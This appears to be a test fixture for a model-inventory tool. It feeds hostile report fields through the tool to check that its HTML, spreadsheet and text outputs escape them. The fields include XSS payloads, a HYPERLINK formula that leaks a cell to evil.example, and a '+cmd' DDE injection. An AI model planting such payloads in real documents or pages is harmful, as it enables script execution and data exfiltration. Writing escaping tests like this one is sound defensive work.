/** Reports whose texts try to break out of every format the inventory writes. */
import type { Report } from '../../src/core/types.js';
import { report } from './reports.js';

export const HOSTILE_ID = '<img src=x onerror="window.__pwned=1">';
export const SCRIPT_ID = 'evil/</script><script>window.__pwned=2</script>';
export const LS_ID = 'acme/line\u2028sep\u2029model';
export const FORMULA_ID = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';

export function hostileReports(): Record<string, Report> {
  return {
    'acme-corp__web.json': report(
      [
        {
          id: HOSTILE_ID,
          status: 'blocked',
          license: '"><svg onload=window.__pwned=3>',
          purpose: '<b>bold</b> @octocat #1',
          locations: [{ path: 'src/<img src=y onerror=window.__pwned=4>.py', line: 3 }],
        },
        {
          id: SCRIPT_ID,
          status: 'warning',
          license: 'mit',
          locations: [{ path: 'a "quoted", path\nwith a break.py', line: 7 }],
        },
        { id: LS_ID, license: 'apache-2.0', locations: [{ path: 'app.py', line: 1 }] },
        { id: FORMULA_ID, license: "+cmd|' /C calc'!A0", locations: [{ path: '@SUM(1+1).py', line: 2 }] },
        { id: 'acme/pipe|and`tick`model', license: '-2+3', locations: [{ path: 'models.yaml', line: 9 }] },
      ],
      {
        policy: '<script>window.__pwned=5</script>',
        repository: { full_name: 'acme-corp/web', url: 'https://github.com/acme-corp/web', commit: 'a'.repeat(40) },
      },
    ),
    'other.json': report([{ id: 'gpt2', license: 'mit' }], {
      repository: { full_name: 'acme-corp/<img src=z onerror=window.__pwned=6>' },
    }),
  };
}
